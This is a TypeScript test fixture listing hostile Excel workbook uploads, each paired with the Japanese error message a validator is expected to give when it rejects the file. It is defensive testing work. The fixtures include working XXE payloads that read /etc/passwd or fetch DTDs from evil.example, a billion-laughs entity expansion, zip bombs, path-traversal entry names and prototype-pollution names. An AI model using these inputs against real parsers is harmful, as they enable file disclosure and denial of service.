import { cell, type Part, sheetXml, workbook, workbookParts, zip } from "./workbook-fixture";

/** A file that harms whoever trusts it, and the reason it is refused for. */
export type Hostile = [name: string, bytes: () => Buffer, reason: RegExp];

const MB = 1024 * 1024;
const ROW = `<row r="1">${cell("A1")}</row>`;
const PLAIN = sheetXml(ROW);
const ole = (text = "") =>
  Buffer.concat([
    Buffer.from([0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1]),
    Buffer.from(text, "utf16le"),
  ]);
const raw = (...bytes: number[]) => Buffer.from([...bytes, ...Array(64).fill(7)]);
const withPart =
  (name: string, data: string | Buffer = "x") =>
  () =>
    workbook(PLAIN, { [name]: data });
const parts =
  (...more: Part[]) =>
  () =>
    zip([...workbookParts(), ...more]);
const whole = () => workbook(sheetXml(`<row r="1">${cell("A1", "長い文".repeat(900))}</row>`));

/** No workbooks at all. */
const OTHER_TYPES: Hostile[] = [
  ["nothing", () => Buffer.alloc(0), /空です/],
  ["one byte", () => Buffer.from("P"), /テキスト/],
  ["text", () => Buffer.from("工程番号,措置区分\nK02-03,完了\n"), /テキスト/],
  ["a page", () => Buffer.from("<!doctype html><table><tr><td>1</table>"), /テキスト/],
  ["XML of 2003", () => Buffer.from('<?xml version="1.0"?><Workbook xmlns="urn:x"/>'), /テキスト/],
  ["JSON", () => Buffer.from("{}"), /テキスト/],
  ["a PDF", () => Buffer.from("%PDF-1.7"), /PDF/],
  ["a PNG", () => raw(0x89, 0x50, 0x4e, 0x47), /PNG/],
  ["a JPEG", () => raw(0xff, 0xd8, 0xff), /JPEG/],
  ["a GIF", () => Buffer.from("GIF89a"), /GIF/],
  ["a gzip", () => raw(0x1f, 0x8b), /gzip/],
  ["a 7z", () => raw(0x37, 0x7a, 0xbc, 0xaf), /7z/],
  ["a RAR", () => Buffer.from("Rar!\x1a\x07"), /RAR/],
  ["a program", () => raw(0x4d, 0x5a), /実行ファイル/],
  ["noise", () => raw(0xfe, 0x80, 0xc0), /Excelブック\(\.xlsx\)ではありません/],
  ["an old workbook", () => ole("Workbook"), /古い形式/],
  ["an encrypted workbook", () => ole("EncryptedPackage"), /パスワード/],
  ["an archive of nothing", () => zip([]), /ではありません/],
  ["too many bytes", () => Buffer.concat([zip(workbookParts()), Buffer.alloc(5 * MB)]), /5MB/],
];

/** Archives of another kind, or with programs in them. */
const OTHER_CONTENTS: Hostile[] = [
  [
    "a text document",
    () =>
      zip([
        { name: "[Content_Types].xml", data: "x" },
        { name: "word/document.xml", data: "x" },
      ]),
    /Word/,
  ],
  [
    "slides",
    () =>
      zip([
        { name: "[Content_Types].xml", data: "x" },
        { name: "ppt/presentation.xml", data: "x" },
      ]),
    /PowerPoint/,
  ],
  [
    "an OpenDocument",
    () =>
      zip([
        { name: "mimetype", data: "application/vnd.oasis.opendocument.spreadsheet", method: 0 },
        { name: "content.xml", data: "x" },
      ]),
    /OpenDocument/,
  ],
  ["a binary workbook", withPart("xl/workbook.bin"), /xlsb/],
  ["any archive", () => zip([{ name: "a.txt", data: "x" }]), /ではない圧縮ファイル/],
  ["no types", () => zip(workbookParts().slice(1)), /ではない圧縮ファイル/],
  [
    "no workbook",
    () => zip(workbookParts().filter(({ name }) => name !== "xl/workbook.xml")),
    /ではない圧縮ファイル/,
  ],
  ["a macro", withPart("xl/vbaProject.bin"), /マクロ/],
  ["a macro elsewhere", withPart("other/vbaProject.bin"), /マクロ/],
  ["a macro in capitals", withPart("xl/VBAPROJECT.BIN"), /マクロ/],
  ["a signed macro", withPart("xl/vbaProjectSignature.bin"), /マクロ/],
  ["a macro of Excel 4", withPart("xl/macrosheets/sheet1.xml", PLAIN), /マクロ/],
  ["a dialog", withPart("xl/dialogsheets/sheet1.xml", PLAIN), /マクロ/],
  ["a control", withPart("xl/activeX/activeX1.xml", "<x/>"), /ActiveX/],
  ...(["zip", "xlsx in it", "ole", "7z", "RAR", "gzip"] as const).map((kind): Hostile => {
    const bytes = {
      zip: zip([{ name: "a", data: "x" }]),
      "xlsx in it": whole(),
      ole: ole("x"),
      "7z": raw(0x37, 0x7a, 0xbc, 0xaf),
      RAR: Buffer.from("Rar!\x1a\x07"),
      gzip: raw(0x1f, 0x8b),
    }[kind];
    return [`an archive within (${kind})`, withPart("xl/media/image1.png", bytes), /別のファイル/];
  }),
];

/** Cut, broken, or saying another thing than what is in them. */
const BROKEN: Hostile[] = [
  ...[0.05, 0.2, 0.4, 0.5, 0.6, 0.7, 0.8, 0.9, 0.97].map(
    (share): Hostile => [
      `cut at ${share}`,
      () => whole().subarray(0, Math.floor(whole().length * share)),
      /途中で切れ/,
    ],
  ),
  ["without its last byte", () => whole().subarray(0, -1), /途中で切れ/],
  [
    "noise in a part",
    () => {
      const bytes = zip(workbookParts([{ name: "S", xml: sheetXml(ROW.repeat(200)) }]));
      bytes.fill(0xff, 1_450, 1_600);
      return bytes;
    },
    /壊れ|違います|DOCTYPE|シート/,
  ],
  ["more parts said than there are", () => zip(workbookParts(), { saysEntries: 40 }), /壊れ/],
  [
    "a size that is too small",
    parts({ name: "xl/styles.xml", data: "y".repeat(5_000), saysSize: 10 }),
    /大きさ/,
  ],
  ["a size that is too large", parts({ name: "xl/styles.xml", data: "y", saysSize: 5_000 }), /大きさ/],
  ["a size of 4 GB", parts({ name: "xl/styles.xml", data: "y", saysSize: 0xfffffffe }), /20MB/],
  [
    "a size that lies of a bomb",
    parts({ name: "xl/styles.xml", data: Buffer.alloc(30 * MB), saysSize: 100 }),
    /大きさ|20MB/,
  ],
  ["an encrypted part", parts({ name: "xl/styles.xml", data: "y", flags: 0x0801 }), /パスワード/],
  ["a packing nobody knows", parts({ name: "xl/styles.xml", data: "y", method: 12 }), /圧縮方式/],
  ["a packing of WinZip", parts({ name: "xl/styles.xml", data: "y", method: 99 }), /圧縮方式/],
  ["../", withPart("../evil.xml"), /ファイルの外/],
  ["../ in between", withPart("xl/../../evil.xml"), /ファイルの外/],
  ["..\\", withPart("..\\evil.xml"), /ファイルの外/],
  ["from the root", withPart("/etc/passwd"), /ファイルの外/],
  ["a drive", withPart("C:/windows/win.ini"), /ファイルの外/],
  ["the same name twice", parts({ name: "xl/workbook.xml", data: "x" }), /同じ名前/],
  ["the same name in capitals", parts({ name: "XL/WORKBOOK.XML", data: "x" }), /同じ名前/],
  [
    "501 parts",
    () => zip([...workbookParts(), ...Array.from({ length: 501 }, (_, n) => ({ name: `x/${n}`, data: "" }))]),
    /部品が多すぎ/,
  ],
];

/** Small files that become large ones. */
const BOMBS: Hostile[] = [
  ["a sheet of 25 MB", () => workbook(sheetXml(" ".repeat(25 * MB))), /20MB/],
  ["a text of 25 MB", withPart("xl/sharedStrings.xml", Buffer.alloc(25 * MB, 0x61)), /20MB/],
  ["a picture of 25 MB", withPart("xl/media/image1.png", Buffer.alloc(25 * MB)), /20MB/],
  [
    "30 parts of 1 MB",
    () =>
      zip([
        ...workbookParts(),
        ...Array.from({ length: 30 }, (_, n) => ({ name: `x/${n}`, data: Buffer.alloc(MB) })),
      ]),
    /20MB/,
  ],
  ["200,001 cells", () => workbook(sheetXml("<c/>".repeat(200_001))), /セルが多すぎ/],
  [
    "200,001 cells in two sheets",
    () => zip(workbookParts(["a", "b"].map((name) => ({ name, xml: sheetXml("<c/>".repeat(100_001)) })))),
    /セルが多すぎ/,
  ],
  [
    "51 sheets",
    () => zip(workbookParts(Array.from({ length: 51 }, (_, n) => ({ name: `S${n}`, xml: PLAIN })))),
    /シートが多すぎ/,
  ],
  ["a long cell", () => workbook(sheetXml(`<row r="1">${cell("A1", "x".repeat(40_000))}</row>`)), /文字数/],
];

const ENTITY = '<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;">';
const XML_PARTS = [
  "[Content_Types].xml",
  "_rels/.rels",
  "xl/workbook.xml",
  "xl/_rels/workbook.xml.rels",
  "xl/sharedStrings.xml",
  "xl/styles.xml",
];

/** XML that asks its reader for more than to be read. */
const XML_TRICKS: Hostile[] = [
  ...XML_PARTS.map(
    (name): Hostile => [
      `a DOCTYPE in ${name}`,
      withPart(name, `<!DOCTYPE x [${ENTITY}]><x>&b;</x>`),
      /DOCTYPE/,
    ],
  ),
  ["a DOCTYPE in a sheet", () => workbook(`<!DOCTYPE worksheet [${ENTITY}]>${PLAIN}`), /DOCTYPE/],
  [
    "a billion laughs",
    () =>
      workbook(
        PLAIN.replace(
          "<worksheet",
          `<!DOCTYPE w [${Array.from({ length: 9 }, (_, n) => `<!ENTITY l${n + 1} "${`&l${n};`.repeat(10)}">`).join("")}]><worksheet`,
        ),
      ),
    /DOCTYPE/,
  ],
  [
    "an entity of a file",
    () => workbook(`<!DOCTYPE w [<!ENTITY x SYSTEM "file:///etc/passwd">]>${PLAIN}`),
    /DOCTYPE/,
  ],
  [
    "an entity from elsewhere",
    () => workbook(`<!DOCTYPE w SYSTEM "http://evil.example/x.dtd">${PLAIN}`),
    /DOCTYPE/,
  ],
  [
    "a parameter entity",
    () => workbook(`<!DOCTYPE w [<!ENTITY % p SYSTEM "http://evil.example/">%p;]>${PLAIN}`),
    /DOCTYPE/,
  ],
  ["a doctype in small letters", () => workbook(`<!doctype w>${PLAIN}`), /DOCTYPE/],
  ["an entity without a DOCTYPE", () => workbook(`<!ENTITY a "b">${PLAIN}`), /DOCTYPE/],
  ["a DOCTYPE in a drawing", withPart("xl/drawings/vmlDrawing1.vml", "<!DOCTYPE x><x/>"), /DOCTYPE/],
  [
    "UTF-16 from the little end",
    () => workbook(PLAIN, { "xl/styles.xml": Buffer.from("\uFEFF<!DOCTYPE x><x/>", "utf16le") }),
    /UTF-8/,
  ],
  [
    "UTF-16 from the big end",
    () => workbook(PLAIN, { "xl/styles.xml": Buffer.from("\uFEFF<x/>", "utf16le").swap16() }),
    /UTF-8/,
  ],
  ["UTF-7", () => workbook(PLAIN.replace("UTF-8", "UTF-7")), /UTF-8/],
  ["Shift_JIS", () => workbook(PLAIN.replace("UTF-8", "Shift_JIS")), /UTF-8/],
  ["NUL", () => workbook(PLAIN, { "xl/styles.xml": "<x>\0</x>" }), /UTF-8/],
  ["a cut sheet", () => workbook(PLAIN.slice(0, -9)), /途中で切れ/],
  ["no sheet", () => zip(workbookParts([])), /シートがありません/],
];

const merged =
  (...refs: string[]) =>
  () =>
    workbook(
      sheetXml(ROW, `<mergeCells>${refs.map((ref) => `<mergeCell ref="${ref}"/>`).join("")}</mergeCells>`),
    );
const linked = (ref: string) => () =>
  workbook(sheetXml(ROW, `<hyperlinks><hyperlink ref="${ref}" location="A1"/></hyperlinks>`));
const at = (address: string) => () => workbook(sheetXml(`<row r="1">${cell(address)}</row>`));

/** Far ends of a sheet, and large pieces of it. */
const PLACES: Hostile[] = [
  ["one merge of everything", merged("A1:XFD1048576"), /結合/],
  ["a merge of a column", merged("A1:A1048576"), /結合/],
  ["merges that come to it together", merged("A1:Z5000", "A5001:Z9999"), /結合/],
  ["a merge the wrong way round", merged("XFD1048576:A1"), /結合/],
  [
    "200,001 merges of a cell",
    () => workbook(sheetXml(ROW, '<mergeCell ref="A1"/>'.repeat(200_001))),
    /結合/,
  ],
  [
    "a merge in a second sheet",
    () =>
      zip(
        workbookParts([
          { name: "a", xml: PLAIN },
          { name: "b", xml: sheetXml("", '<mergeCell ref="A1:XFD9999"/>') },
        ]),
      ),
    /結合/,
  ],
  ["a merge of nothing", merged("X"), /正しくありません/],
  ["a merge with a prefix", () => workbook(sheetXml(ROW, '<x:mergeCell ref="A1:XFD1048576"/>')), /結合/],
  ["a link over everything", linked("A1:XFD1048576"), /リンク/],
  ["the last row", at("A1048576"), /離れたセル\(A1048576\)/],
  ["the last column", at("XFD1"), /離れたセル\(XFD1\)/],
  ["the last cell", at("XFD1048576"), /離れたセル/],
  ["one column too many", at("IW1"), /離れたセル/],
  ["one row too many", at("A20001"), /離れたセル/],
  [
    "16,384 columns",
    () =>
      workbook(
        sheetXml(
          `<row r="1">${Array.from({ length: 16_384 }, (_, n) => `<c r="${letters(n + 1)}1"><v>1</v></c>`).join("")}</row>`,
        ),
      ),
    /離れたセル/,
  ],
  [
    "16,384 columns without addresses",
    () => workbook(sheetXml(`<row r="1">${"<c><v>1</v></c>".repeat(16_384)}</row>`)),
    /離れたセル/,
  ],
  ["row 0", at("A0"), /番地/],
  ["four letters", at("AAAA1"), /番地/],
  ["no letters", at("11"), /番地/],
  ["__proto__ as an address", at("__proto__"), /番地/],
  ["small letters", at("a1"), /番地/],
  [
    "16,385 columns set up",
    () => workbook(sheetXml(ROW, "", '<cols><col min="1" max="16385"/></cols>')),
    /列の設定/,
  ],
  [
    "a billion columns set up",
    () => workbook(sheetXml(ROW, "", '<cols><col min="1" max="999999999"/></cols>')),
    /列の設定/,
  ],
  ["columns without an end", () => workbook(sheetXml(ROW, "", '<cols><col min="1"/></cols>')), /列の設定/],
  ...["__proto__", "constructor", "prototype"].map(
    (name): Hostile => [
      `a sheet named ${name}`,
      () => zip(workbookParts([{ name, xml: PLAIN }])),
      /使えません/,
    ],
  ),
  [
    "a name __proto__",
    () =>
      workbook(PLAIN, {
        "xl/workbook.xml":
          '<workbook><sheets><sheet name="a" sheetId="1" r:id="rId1"/></sheets><definedNames><definedName name="__proto__">a!A1</definedName></definedNames></workbook>',
      }),
    /使えません/,
  ],
];

function letters(column: number): string {
  return column === 0
    ? ""
    : letters(Math.floor((column - 1) / 26)) + String.fromCharCode(65 + ((column - 1) % 26));
}

export const HOSTILE_WORKBOOKS: readonly Hostile[] = [
  ...OTHER_TYPES,
  ...OTHER_CONTENTS,
  ...BROKEN,
  ...BOMBS,
  ...XML_TRICKS,
  ...PLACES,
];
